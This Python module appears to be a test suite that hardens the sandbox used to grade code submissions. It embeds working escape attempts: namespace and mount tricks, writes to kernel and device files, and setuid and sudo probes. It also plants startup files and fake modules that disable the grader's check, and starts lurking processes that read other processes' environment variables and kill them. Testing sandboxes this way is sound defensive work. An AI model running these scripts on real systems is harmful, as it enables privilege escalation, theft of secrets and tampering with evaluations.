# ruff: noqa: E501 (the attacks are programs in themselves, and are easier to read unbroken)
"""Attacks on the walls, on the process that forks submissions, and on whoever comes next."""

from .scene import ENDED, play

STATUS = """
fields = dict(line.split(":\\t", 1) for line in open("/proc/self/status").read().splitlines() if ":\\t" in line)
for name in ("CapEff", "CapPrm", "CapInh", "CapBnd", "CapAmb"):
    if int(fields[name], 16):
        breach(f"{name} is {fields[name]}")
if fields["NoNewPrivs"].strip() != "1":
    breach("new privileges can be had")
if "0" in fields["Uid"].split():
    breach("this is root")
if len(fields["Groups"].split()) > 1 or fields["Groups"].split() == ["0"]:
    breach(f"groups are {fields['Groups']}")
for kind in ("pid", "net", "mnt", "ipc"):
    if not walled(kind):
        breach(f"the {kind} namespace is the machine's")
"""
MODULES = """
if not walled("mnt"):
    breach("the files are the machine's")
    raise SystemExit
for module in list(sys.modules.values()):
    for path in filter(None, (getattr(module, "__file__", None), getattr(module, "__cached__", None))):
        if os.path.exists(path):
            attempt(f"{path} can be written", lambda: open(path, "r+b").close())
            attempt(f"{path} can be changed", lambda: os.chmod(path, os.stat(path).st_mode))
            attempt(f"{path} can be touched", lambda: os.utime(path))
"""
FOLDERS = """
if not walled("mnt"):
    breach("the files are the machine's")
    raise SystemExit
name, text = f"planted-{SCENE['token']}", planted()
mine = [os.path.realpath(path) for path in ("/tmp", "/dev/shm", ".", os.environ.get("TMPDIR", "."))]
end = time.monotonic() + 4
known = {os.path.dirname(target) for target in SCENE["targets"]} | {"/", "/usr/lib", "/etc", "/keys", "/proc", "/sys"}
known |= {path for path in sys.path if path} | {os.path.dirname(os.path.realpath(sys.executable)), sys.prefix}
for start in sorted(known) + ["/"]:
    for folder, folders, files in os.walk(start):
        if os.path.realpath(folder).startswith(("/proc", *mine)):
            continue
        def write():
            with open(os.path.join(folder, name), "x") as stream:
                stream.write(text)
        attempt(f"a file can be made in {folder}", write)
        attempt(f"a link can be made in {folder}", lambda: os.symlink("/etc/passwd", os.path.join(folder, name + "-link")))
        if time.monotonic() > end or start != "/":
            break
for target in SCENE["targets"]:
    attempt(f"{target} can be written", lambda: open(target, "r+b"))
    attempt(f"{target} can be linked to", lambda: os.link(target, "link"))
"""
KERNEL = """
if not walled("mnt"):
    breach("the files are the machine's")
    raise SystemExit
import glob
for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/vm/overcommit_memory", "/dev/mem", "/dev/kmsg",
             "/proc/sys/kernel/hostname", "/proc/sys/user/max_user_namespaces", "/sys/kernel/uevent_helper", "/dev/sda",
             "/dev/vda", "/dev/fuse", "/dev/kvm", "/dev/loop-control", "/proc/1/oom_score_adj", "/proc/1/mem",
             *glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True)[:200], "/sys/fs/cgroup/memory.max"):
    attempt(f"{path} can be written", lambda: os.close(os.open(path, os.O_WRONLY)))
import fcntl
for number in (0, 1, 2):
    attempt("typed into a terminal", lambda: fcntl.ioctl(number, 0x5412, b" "))
attempt("opened the terminal", lambda: open("/dev/tty", "r+b", buffering=0))
attempt("made a device", lambda: os.mknod("device", 0o060600, os.makedev(8, 0)))
attempt("changed the root", lambda: os.chroot("."))
attempt("became root", lambda: os.setuid(0))
attempt("became another", lambda: os.setresgid(0, 0, 0))
attempt("gave a file away", lambda: open("mine", "w").close() or os.chown("mine", 0, 0))
attempt("gained priority", lambda: os.nice(-5))
def setuid():
    import shutil
    shutil.copy(shutil.which("id") or "/usr/bin/id", "id")
    os.chmod("id", 0o4755)
    return False
attempt("setuid", setuid)
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for number, what in ((175, "init_module"), (246, "kexec_load"), (169, "reboot"), (155, "pivot_root"), (163, "acct"),
                     (167, "swapon"), (103, "syslog"), (298, "perf_event_open"), (321, "bpf")):
    if os.uname().machine == "x86_64" and libc.syscall(number, 0, 0, 0, 0, 0) == 0:
        breach(f"{what} worked")
"""
SETUID = """
import shutil, subprocess
for command in (["su", "-c", "id -u"], ["sudo", "-n", "id", "-u"], ["mount", "-t", "tmpfs", "tmpfs", "/mnt"],
                ["newgrp", "root", "-c", "id -u"], ["pkexec", "id", "-u"], ["chsh", "-s", "/bin/sh"],
                ["unshare", "-Urm", "id", "-u"], ["bwrap", "--bind", "/", "/", "id", "-u"], ["crontab", "-l"]):
    if shutil.which(command[0]):
        done = subprocess.run(command, capture_output=True, stdin=subprocess.DEVNULL, timeout=5)
        print(command, done.returncode, done.stdout[:80], done.stderr[:80])
        if command[0] in ("su", "sudo", "pkexec", "newgrp", "mount") and done.returncode == 0:
            breach(f"{command[0]} worked: {done.stdout[:40]}")
"""
NAMESPACES = """
import ctypes, glob
libc = ctypes.CDLL(None, use_errno=True)

def deeper():
    uid, gid = os.getuid(), os.getgid()
    if libc.unshare(0x10000000 | 0x00020000 | 0x40000000 | 0x08000000):
        return
    try:
        open("/proc/self/setgroups", "w").write("deny")
        open("/proc/self/uid_map", "w").write(f"0 {uid} 1")
        open("/proc/self/gid_map", "w").write(f"0 {gid} 1")
    except OSError as error:
        print(error)
    libc.mount(b"none", b"/", None, 16384 | 262144, None)  # private: nothing of this leaves
    os.makedirs("/tmp/there", exist_ok=True)
    for source, target, kind, flags in (
            (b"/", b"/tmp/there", None, 4096 | 16384), (b"/keys", b"/tmp/there", None, 4096),
            (b"none", b"/keys", None, 32 | 4096), (b"none", b"/", None, 32), (b"proc", b"/proc", b"proc", 0),
            (b"none", b"/", None, 32 | 4096)):
        libc.mount(source, target, kind, flags, None)
    for path in ("/", "/keys", "/tmp/there"):
        libc.umount2(path.encode(), 2)
        attempt(f"{path} can be written after mounting", lambda: path != "/tmp/there" and open(
            f"{path}/planted-{SCENE['token']}", "x"))
    for target in SCENE["targets"]:
        for root in ("", "/tmp/there", "/proc/1/root", "/proc/1/cwd"):
            read(root + target)
    tell("found:", *found)

child(deeper)
for path in glob.glob("/proc/[0-9]*/ns/*"):
    if path.split("/")[2] == os.readlink("/proc/self"):
        continue
    def enter():
        number = os.open(path, os.O_RDONLY)
        if os.fstat(number).st_ino != os.stat("/proc/self/ns/" + path.split("/")[-1]).st_ino and not libc.setns(number, 0):
            breach(f"entered {path}")
    try:
        child(enter, 2)
    except OSError:
        pass
"""

#: Whatever can outlive a submission: files under names that others load, memory, sockets, processes.
PLANT = """
if not walled("mnt"):
    breach("the files are the machine's")
    raise SystemExit
import ctypes, socket
MODULE = f"MARK = {planted()!r}\\n" + '''
import mlm
mlm.Exercise.check = lambda *args: None
'''
names = ("json.py", "numpy.py", "pandas/__init__.py", "mlm/__init__.py", "sitecustomize.py", "usercustomize.py", "a.pth",
         "matplotlibrc", ".pytensorrc", ".ipython/profile_default/startup/00.py", ".config/matplotlib/matplotlibrc",
         ".local/lib/python3.11/site-packages/sitecustomize.py", ".bashrc", ".pythonrc", ".cache/planted", "98-example.ipynb")
folders = {"/tmp", "/dev/shm", ".", "/var/tmp", "/run", "/keys", "/dev", "/", os.environ.get("HOME", "."), "/dev/mqueue"}
folders |= {os.path.dirname(getattr(module, "__file__", None) or "/tmp/x") for module in list(sys.modules.values())}
for folder in sorted(folders):
    for name in names:
        try:
            os.makedirs(os.path.dirname(os.path.join(folder, name)), exist_ok=True)
            with open(os.path.join(folder, name), "x") as stream:
                stream.write(MODULE)
        except OSError:
            pass
for number in {0, 1, 2, *range(4, 64)}:  # open files that were there before it
    try:
        os.write(number, planted().encode())
    except OSError:
        pass
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
for key in range(0x6D6C, 0x6D6C + 4):
    shared = libc.shmget(key, 4096, 0o1666)
    place = libc.shmat(shared, None, 0) if shared >= 0 else -1
    if place not in (-1, None, 2**64 - 1):
        ctypes.memmove(place, planted().encode(), 40)
    libc.semget(key, 1, 0o1666)
    queue = libc.msgget(key, 0o1666)
    if queue >= 0:
        libc.msgsnd(queue, ctypes.c_char_p(b"\\x01" + b"\\0" * 7 + planted().encode()), 40, 0o4000)
secret = planted().encode()
for ring in (-3, -4, -5):  # the process's, the user's and the session's
    libc.syscall(248, b"user", b"mlm", secret, len(secret), ring)

def lurk():
    name_me()
    for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    shop = socket.socket(socket.AF_UNIX)
    try:
        shop.bind("\\0mlm-lurker")
        shop.listen()
        shop.settimeout(0.3)
    except OSError:
        pass
    end = time.monotonic() + 60
    older = set(os.listdir("/proc"))
    while time.monotonic() < end:
        for name in os.listdir("/proc") if walled("pid") else []:
            if name.isdigit() and name not in older:
                read(f"/proc/{name}/environ")
                read(f"/proc/{name}/cwd/98-example.ipynb")
                try:
                    os.kill(int(name), signal.SIGKILL)
                except OSError:
                    pass
        try:
            guest, _ = shop.accept()
            guest.sendall((" ".join(found) + " " + planted()).encode())
            guest.close()
        except OSError:
            time.sleep(0.2)

for _ in range(3):
    if not os.fork():
        os.setsid()
        if not os.fork():
            try:
                lurk()
            finally:
                os._exit(0)
        os._exit(0)
"""
HARVEST = """
import ctypes, socket
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
for folder in ("/tmp", "/dev/shm", ".", "/var/tmp", "/run", "/dev", os.environ.get("HOME", "."), "/dev/mqueue"):
    for place, _, files in os.walk(folder):
        for name in files:
            read(os.path.join(place, name))
for number in {0, 1, 2, *range(4, 64)}:
    read(f"/proc/self/fd/{number}")
    try:
        look(os.pread(number, 1_000_000, 0))
    except OSError:
        pass
for key in range(0x6D6C, 0x6D6C + 4):
    shared = libc.shmget(key, 4096, 0)
    place = libc.shmat(shared, None, 0) if shared >= 0 else -1
    if place not in (-1, None, 2**64 - 1):
        look(ctypes.string_at(place, 40))
    buffer = ctypes.create_string_buffer(100)
    queue = libc.msgget(key, 0)
    if queue >= 0 and libc.msgrcv(queue, buffer, 80, 0, 0o4000) > 0:
        look(buffer.raw)
for ring in (-3, -4, -5):
    serial = libc.syscall(250, 10, ring, b"user", b"mlm", 0)
    buffer = ctypes.create_string_buffer(100)
    if serial > 0 and libc.syscall(250, 11, serial, buffer, 100) > 0:
        look(buffer.raw)
try:
    with socket.socket(socket.AF_UNIX) as shop:
        shop.settimeout(2)
        shop.connect("\\0mlm-lurker")
        look(shop.recv(100_000))
except OSError:
    pass
for name in os.listdir("/proc"):
    if name.isdigit():
        try:
            if open(f"/proc/{name}/comm").read().startswith("lurk"):
                breach(f"a process of another submission is alive: {name}")
        except OSError:
            pass
look(repr(sorted(sys.modules)).encode())
for module in list(sys.modules.values()):
    look(str(getattr(module, "MARK", "")).encode())
for text in found:
    breach(f"another submission left {text}")
"""

ATTACKS = [
    play("status", "privileges", STATUS),
    play("modules-on-disk", "files of the host", MODULES),
    play("folders-on-disk", "files of the host", FOLDERS),
    play("kernel", "kernel settings and devices", KERNEL),
    play("setuid", "setuid programs", SETUID),
    play("namespaces", "namespaces and mounts", NAMESPACES, statuses=ENDED),
    play("plants", "the next submission", PLANT),
    *[play(f"plants-harvest-{n}", "the next submission", HARVEST) for n in (1, 2, 3)],
]
